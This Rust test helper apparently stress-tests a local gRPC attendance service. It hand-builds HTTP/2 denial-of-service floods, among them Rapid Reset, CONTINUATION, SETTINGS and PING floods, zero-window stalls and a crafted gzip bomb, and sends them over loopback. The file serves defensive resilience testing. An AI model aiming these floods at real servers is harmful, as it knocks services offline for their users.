//! Attackers: HTTP/2 frames written by hand, in plain text.

use std::time::Duration;

use tokio::io::{AsyncReadExt as _, AsyncWriteExt as _};
use tokio::net::{TcpSocket, TcpStream};

use crate::support::frames::{
    CONTINUATION, DATA, END_HEADERS, END_STREAM, HEADERS, NO_FLAGS, PING, PREFACE, RST_STREAM, SETTINGS,
    frame, headers, literal,
};

const PUNCH: &str = "/qinlian.v1.AttendanceService/RecordPunch";
const HEALTH: &str = "/grpc.health.v1.Health/Check";

/// Attackers have an address of their own, so that limits by address can tell them from honest callers.
const FROM: &str = "127.0.0.2:0";
/// After a burst, so that the machine is not busy with writing alone; some 10,000 frames a second and connection.
const BREATH: Duration = Duration::from_millis(5);
/// After a connection that was closed.
const AGAIN: Duration = Duration::from_millis(20);

/// What an attacker does.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub(super) enum Flood {
    /// Opens calls and resets them at once (CVE-2023-44487).
    RapidReset,
    /// Headers that never end (RUSTSEC-2024-0332).
    Continuation,
    /// Settings, each of which wants an acknowledgement (CVE-2019-9515).
    Settings,
    /// Pings, each of which wants an answer (CVE-2019-9512).
    Ping,
    /// Frames of a body with nothing in them (RUSTSEC-2026-0258).
    EmptyData,
    /// Bodies that come a byte at a time, on every stream that there may be.
    Drip,
    /// Asks, and never lets the answers through (CVE-2019-9517).
    ZeroWindow,
    /// Small messages that would be large if somebody inflated them.
    GzipBomb,
}

/// What became of an attacker.
#[derive(Debug, Default, Clone, Copy)]
pub(super) struct Outcome {
    /// Bursts that were written.
    pub(super) bursts: usize,
    /// Connections that the server closed.
    pub(super) closed: usize,
}

/// Attacks for so long, with one connection after the other.
pub(super) async fn attack(address: &str, flood: Flood, token: &str, how_long: Duration) -> Outcome {
    let mut outcome = Outcome::default();
    let attacking = async {
        loop {
            let stream = connect(address).await;
            let (mut read, mut write) = stream.into_split();
            // Who does not read is soon stopped by TCP alone.
            let reader = async move {
                let mut bytes = vec![0; 64 * 1024];
                while read.read(&mut bytes).await.is_ok_and(|count| count > 0) {}
            };
            let writer = async {
                let mut next = 1;
                if write.write_all(&opening(flood, token, &mut next)).await.is_err() {
                    return;
                }
                while next < u32::MAX / 4 && write.write_all(&burst(flood, token, &mut next)).await.is_ok() {
                    outcome.bursts += 1;
                    tokio::time::sleep(BREATH).await;
                }
            };
            tokio::select! {
                () = reader => {}
                () = writer => {}
            }
            outcome.closed += 1;
            tokio::time::sleep(AGAIN).await;
        }
    };
    let _elapsed: Result<(), _> = tokio::time::timeout(how_long, attacking).await;
    outcome
}

/// A connection from the attackers' address.
pub(super) async fn connect(address: &str) -> TcpStream {
    loop {
        let socket = TcpSocket::new_v4().expect("a socket");
        socket.bind(FROM.parse().expect("an address")).expect("all of 127/8 is the loopback interface's");
        if let Ok(stream) = socket.connect(address.parse().expect("an address")).await {
            return stream;
        }
        tokio::time::sleep(AGAIN).await;
    }
}

/// What a connection begins with: the preface, settings, and what the flood needs first.
fn opening(flood: Flood, token: &str, next: &mut u32) -> Vec<u8> {
    let mut bytes = PREFACE.to_vec();
    // SETTINGS_INITIAL_WINDOW_SIZE: nothing may be sent to us.
    let settings: &[u8] = if flood == Flood::ZeroWindow { &[0, 4, 0, 0, 0, 0] } else { &[] };
    bytes.extend(frame(SETTINGS, NO_FLAGS, 0, settings));
    match flood {
        Flood::Continuation => bytes.extend(frame(HEADERS, NO_FLAGS, 1, &headers(PUNCH, token, &[]))),
        Flood::EmptyData => bytes.extend(frame(HEADERS, END_HEADERS, 1, &headers(PUNCH, token, &[]))),
        Flood::Drip => {
            for stream in 0..100 {
                // The length says that a message of 60,000 bytes comes.
                let block = headers(PUNCH, token, &[]);
                bytes.extend(frame(HEADERS, END_HEADERS, 2 * stream + 1, &block));
                bytes.extend(frame(DATA, NO_FLAGS, 2 * stream + 1, &[0, 0, 0, 0xea, 0x60]));
            }
        }
        Flood::RapidReset | Flood::Settings | Flood::Ping | Flood::ZeroWindow | Flood::GzipBomb => {}
    }
    *next = 1;
    bytes
}

/// What it goes on with, again and again.
fn burst(flood: Flood, token: &str, next: &mut u32) -> Vec<u8> {
    let mut stream = || {
        let stream = *next;
        *next += 2;
        stream
    };
    match flood {
        Flood::RapidReset => {
            let block = headers(PUNCH, token, &[]);
            let pair = |stream| {
                // CANCEL.
                [
                    frame(HEADERS, END_HEADERS, stream, &block),
                    frame(RST_STREAM, NO_FLAGS, stream, &[0, 0, 0, 8]),
                ]
                .concat()
            };
            (0..50).flat_map(|_| pair(stream())).collect()
        }
        Flood::Continuation => {
            frame(CONTINUATION, NO_FLAGS, 1, &literal("x-more", &"x".repeat(8_000))).repeat(20)
        }
        Flood::Settings => frame(SETTINGS, NO_FLAGS, 0, &[]).repeat(50),
        Flood::Ping => frame(PING, NO_FLAGS, 0, &[7; 8]).repeat(50),
        Flood::EmptyData => frame(DATA, NO_FLAGS, 1, &[]).repeat(50),
        Flood::Drip => (0..100).flat_map(|n| frame(DATA, NO_FLAGS, 2 * n + 1, &[0])).collect(),
        Flood::ZeroWindow => (0..10)
            .flat_map(|_| {
                let stream = stream();
                let asked = frame(HEADERS, END_HEADERS, stream, &headers(HEALTH, "", &[]));
                [asked, frame(DATA, END_STREAM, stream, &[0; 5])].concat()
            })
            .collect(),
        Flood::GzipBomb => {
            let stream = stream();
            let block = headers(PUNCH, token, &[("grpc-encoding", "gzip")]);
            let bomb = bomb(12_000);
            let length = u32::try_from(bomb.len()).expect("small").to_be_bytes();
            let message = [&[1], length.as_slice(), &bomb].concat();
            let asked = frame(HEADERS, END_HEADERS, stream, &block);
            [asked, frame(DATA, END_STREAM, stream, &message)].concat()
        }
    }
}

/// A gzip file (RFC 1952) of about so many bytes that is 159 times as long when inflated: one nought, and "the same 258
/// times again" by the fixed codes of RFC 1951 §3.2.6. Its end is missing, which whoever inflates it learns last.
fn bomb(bytes: usize) -> Vec<u8> {
    let mut bits: Vec<bool> = Vec::new();
    let mut put = |text: &str| bits.extend(text.bytes().map(|bit| bit == b'1'));
    // The last block, with fixed codes; then the literal 0.
    put("110");
    put("00110000");
    for _ in 0..bytes * 8 / 13 {
        put("1100010100000");
    }
    let mut file = vec![0x1f, 0x8b, 8, 0, 0, 0, 0, 0, 0, 255];
    file.extend(
        bits.chunks(8)
            .map(|eight| eight.iter().enumerate().fold(0, |byte, (at, bit)| byte | (u8::from(*bit) << at))),
    );
    file
}
